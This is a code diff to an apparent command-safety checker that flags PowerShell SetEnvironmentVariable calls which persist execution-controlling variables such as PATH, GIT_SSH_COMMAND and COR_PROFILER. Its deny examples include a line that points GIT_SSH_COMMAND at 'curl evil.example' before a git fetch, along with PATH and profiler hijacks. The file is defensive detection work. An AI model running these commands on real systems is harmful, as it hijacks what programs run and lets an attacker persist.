@@ -4,7 +4,7 @@ import type { Word } from '../../types.js';
 import type { Answer, Call, ProgramEntry, ProgramExample } from '../types.js';
 import { value } from '../words.js';
 import { isCodeVariable } from '../variables.js';
-import { AUTOSTART, VARIABLES_THAT_RUN, registryKey, registryLocation } from './windows.js';
+import { AUTOSTART, decidesWhatRuns, registryKey, registryLocation } from './windows.js';
 
 const PS = 'powershell' as const;
 
@@ -135,13 +135,15 @@ export const DOTNET_ENTRIES: readonly ProgramEntry[] = [
       if (!nameWord || !val) return {};
       const name = value(nameWord);
       if (name === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: nameWord, why: 'SetEnvironmentVariable sets a variable whose name is computed' }] };
-      const scope = target ? (value(target)?.toLowerCase() ?? 'unknown') : 'process';
+      // The target as a string ('User') or as the enum's member (`[EnvironmentVariableTarget]::User`, 0 to 2).
+      const member = target ? /^\[\s*(?:system\.)?environmentvariabletarget\s*\]::(process|user|machine)$/i.exec(target.text.trim())?.[1] : undefined;
+      const scope = target ? (member ?? value(target) ?? 'unknown').toLowerCase().replace(/^0$/, 'process') : 'process';
       const runs = isCodeVariable(name.toUpperCase()) ? { runs: [{ kind: 'assign' as const, name: name.toUpperCase(), value: val }] } : {};
-      const lasting = scope !== 'process' && (isCodeVariable(name.toUpperCase()) || VARIABLES_THAT_RUN.test(name) || /^path$/i.test(name));
+      const lasting = scope !== 'process' && decidesWhatRuns(name);
       return { ...runs, ...(lasting ? { persists: [{ word: nameWord, why: `SetEnvironmentVariable sets ${name} for every later process (${scope}): a variable that decides what runs` }] } : {}) };
     },
     examples: {
-      deny: [ps("[Environment]::SetEnvironmentVariable('GIT_SSH_COMMAND', 'curl evil.example'); git fetch"), ps("[Environment]::SetEnvironmentVariable('PATH', 'C:\\tmp', 'User')")],
+      deny: [ps("[Environment]::SetEnvironmentVariable('GIT_SSH_COMMAND', 'curl evil.example'); git fetch"), ps("[Environment]::SetEnvironmentVariable('PATH', 'C:\\tmp', 'User')"), ps("[Environment]::SetEnvironmentVariable('COR_PROFILER', '{00000000-0000-0000-0000-000000000001}', [EnvironmentVariableTarget]::User)")],
       pass: [ps("[Environment]::SetEnvironmentVariable('NODE_ENV', 'test')"), ps("[Environment]::SetEnvironmentVariable('DOTNET_CLI_TELEMETRY_OPTOUT', '1', 'User')")],
     },
   },
